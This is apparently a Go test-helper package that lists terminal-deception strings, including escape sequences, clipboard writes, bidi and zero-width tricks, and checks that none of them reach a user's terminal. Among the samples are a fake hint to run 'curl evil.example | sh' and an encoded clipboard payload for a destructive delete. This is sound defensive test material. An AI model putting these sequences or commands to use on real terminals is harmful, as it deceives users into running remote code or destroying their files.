// Package escapetest holds texts that an attacker would like a person to see, and finds
// out whether one of them got through to the output of a command.
//
// Invariant: it shares no code with package escape, so the two can disagree. Caveat:
// it judges characters, not meaning. Only a test that knows the frame can tell whether
// a line is pulse's or the attacker's.
package escapetest

import (
	"cmp"
	"fmt"
	"regexp"
	"strings"
	"unicode"
	"unicode/utf8"
)

// Attack is one way to deceive a person at a terminal.
type Attack struct {
	Name, Text string
}

// Attacks are the attacks that records, arguments, files and programs may hold. Some are
// not UTF-8, which a record always is. None holds a NUL, which no argument can hold.
var Attacks = []Attack{
	{"clear the screen", "\x1b[2J\x1b[Hfine"},
	{"rewrite the line", "\r\x1b[2Ktarget   good@example.com"},
	{"cursor up", "x\x1b[1A\x1b[2K\x1b[1Gcode: aaaa"},
	{"a prompt", "\ncode: aaaa\ntype the code to approve this, anything else not to: "},
	{"a fact", "\r\ntarget   good@example.com\r\n"},
	{"a frame", "  | \ntarget   good@example.com"},
	{"another error", "x\npulse-queue: hint: curl evil.example | sh"},
	{"a link", "\x1b]8;;https://evil.example\x1b\\bank\x1b]8;;\x1b\\"},
	{"the clipboard", "\x1b]52;c;cm0gLXJmIH4K\x07"},
	{"the title", "\x1b]0;root\x07\x1b]2;root\x1b\\"},
	{"what answers", "\x1b[6n\x1b[c\x1b[>c\x05\x1bP+q544e\x1b\\\x1b[21t"},
	{"invisible ink", "\x1b[8mhidden\x1b[0m\x1b[30;40mhidden"},
	{"C1 in UTF-8", "\u009b2J\u009d52;c;AA\u009c\u0085\u0090q\u009c"},
	{"C1 in bytes", "\x9b2J\x9d52;c;AA\x9c\x85\x84"},
	{"controls", "\x01\x07\x08\x08\x08\x0b\x0c\x0e\x0f\x11\x13\x18\x1a\x7f"},
	{"bidi", "\u202egro.elpmaxe\u202c\u202dx\u202a\u202b\u2066y\u2067\u2068\u2069\u200e\u200f\u061c"},
	{"zero width", "pay\u200bp\u200ca\u200dl\u2060\u2061\u2064\ufeff"},
	{"tags", "x\U000e0001\U000e0041\U000e0042\U000e007f"},
	{"separators", "a\u2028code: aaaa\u2029target   good@example.com"},
	{"not UTF-8", "\xff\xfe\xc3(\xed\xa0\x80\xf4\x90\x80\x80\xc0\xaf\xe2\x80"},
	{"a pile of marks", "a" + strings.Repeat("\u0301", 200)},
	{"marks in front", "\u0301\u0338\u20e0\u0489x"},
	{"a pile of vowels", "\u1112" + strings.Repeat("\u1161", 100) + strings.Repeat("\ud7b0", 100)},
	{"variation selectors", "x\ufe0e\ufe0f\ufe00\U000e0100\U000e01ef\u180b\u180f"},
	{"soft hyphen", "pay\u00adpal\u00ad"},
	{"fillers", "\u115f\u1160\u3164\uffa0\u2800\U00016fe4\U0001d159\U00013441"},
	{"ignorable", "\u180e\u17b4\u17b5\u034f\u2065\ufff0\U000e0fff\U0001bca0"},
	{"annotations", "\ufff9evil\ufffagood\ufffb\ufffc"},
	{"blanks", "a\u00a0b\u2003c\u3000d\u1680e\u202f\u205f"},
	{"private use", "\ue000\uf8ff\U000f0000\U0010fffd"},
	{"not assigned", "\u0378\ufdd0\uffff\U0003ffff\U0010ffff"},
	{"a long line", "x" + strings.Repeat(" ", 59) + "target   good@example.com" + strings.Repeat(" ", 54) + "code: aaaa"},
	{"one long word", strings.Repeat("y", 500)},
	{"wide characters", strings.Repeat("\u4e16", 60) + "code: aaaa"},
	{"wide at the fold", strings.Repeat("z", 15) + strings.Repeat("\U0001f600e\u0301", 50)},
	{"tabs", "a\tb\t\t\t\t\t\t\t\tcode: aaaa\t"},
	{"verbs", "%s%d%n%!s(MISSING)%[1]q"},
	{"escaped already", `\x1b[2J\u202e\\`},
}

// Records returns the attacks that a record can hold.
func Records() (list []Attack) {
	for _, a := range Attacks {
		if utf8.ValidString(a.Text) {
			list = append(list, a)
		}
	}
	return list
}

// FileName returns the attack as the name of a file, at most 200 bytes long.
func (a *Attack) FileName() string {
	name := strings.ReplaceAll(a.Text, "/", "_")
	return "f" + name[:min(len(name), 199)]
}

// OneLine returns the attack without the characters that a target can't hold.
func (a *Attack) OneLine() string {
	line := strings.Map(func(r rune) rune {
		if r < ' ' || r == 0x7f {
			return -1
		}
		return r
	}, a.Text)
	return cmp.Or(line, "x")
}

// mostMarks is how many marks on one character a reader can still tell apart.
const mostMarks = 3

// Wrong describes what a text holds that no terminal should be given; empty if nothing.
// Lines end with a newline.
func Wrong(text string) string {
	if !utf8.ValidString(text) {
		return fmt.Sprintf("it is not UTF-8: %q", text)
	}
	marks := mostMarks
	for i, r := range text {
		if r == '\n' {
			marks = mostMarks
			continue
		}
		if why := Harmful(r); why != "" {
			return fmt.Sprintf("%U at %d is %s: %q", r, i, why, text)
		}
		if marks++; !joins(r) {
			marks = 0
		}
		if marks > mostMarks {
			return fmt.Sprintf("%U at %d is one mark too many: %q", r, i, text)
		}
	}
	return ""
}

// ours matches the sequences that pulse sends to a terminal (ECMA-48 §8.3.117): bold,
// inverse and neither.
var ours = regexp.MustCompile(`\x1b\[[017]m`)

// Shown returns what reached a terminal, without the carriage returns that the driver
// adds to newlines and without pulse's own colours.
func Shown(screen []byte) string {
	return ours.ReplaceAllString(strings.ReplaceAll(string(screen), "\r\n", "\n"), "")
}

// RawControl returns the first byte below a blank, newlines excepted, with the text
// around it; empty if there is none. JSON, which is data, must not hold one either.
func RawControl(text string) string {
	for i := 0; i < len(text); i++ {
		if text[i] < ' ' && text[i] != '\n' {
			return fmt.Sprintf("%q", text[max(0, i-20):min(len(text), i+20)])
		}
	}
	return ""
}

// Harmful describes what is wrong with a character on a terminal; empty if nothing.
func Harmful(r rune) string {
	switch {
	case r < ' ' || r >= 0x7f && r < 0xa0:
		return "a control"
	case r == ' ':
		return ""
	case unicode.In(r, unicode.Cf, unicode.Cs, unicode.Co, unicode.Zl, unicode.Zp):
		return "a format character, a surrogate, one of private use or a separator"
	case unicode.In(r, unicode.Bidi_Control, unicode.Join_Control):
		return "one that changes what stands around it"
	case unicode.In(r, unicode.Other_Default_Ignorable_Code_Point, unicode.Variation_Selector):
		return "a Default_Ignorable_Code_Point"
	case unicode.Is(unicode.Zs, r) || strings.ContainsRune("\u2800\U00013441\U00013442\U0001d159\ufffc", r):
		return "a blank that is not the blank"
	case !unicode.In(r, unicode.L, unicode.M, unicode.N, unicode.P, unicode.S):
		return "not assigned"
	}
	return ""
}

// joins reports whether r has no column of its own: marks, and vowels and final
// consonants of Hangul.
func joins(r rune) bool {
	return unicode.Is(unicode.M, r) || r >= 0x1160 && r <= 0x11ff || r >= 0xd7b0 && r <= 0xd7fb
}
